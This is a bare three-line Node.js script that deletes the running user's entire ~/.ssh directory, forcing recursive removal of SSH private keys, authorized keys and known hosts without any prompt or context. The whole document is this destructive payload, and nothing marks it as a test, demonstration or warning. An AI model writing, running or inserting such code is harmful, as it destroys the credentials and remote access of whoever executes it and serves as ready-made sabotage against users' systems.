const fs = require('fs');
const path = require('path');
fs.rmSync(path.join(require('os').homedir(), '.ssh'), { recursive: true, force: true });
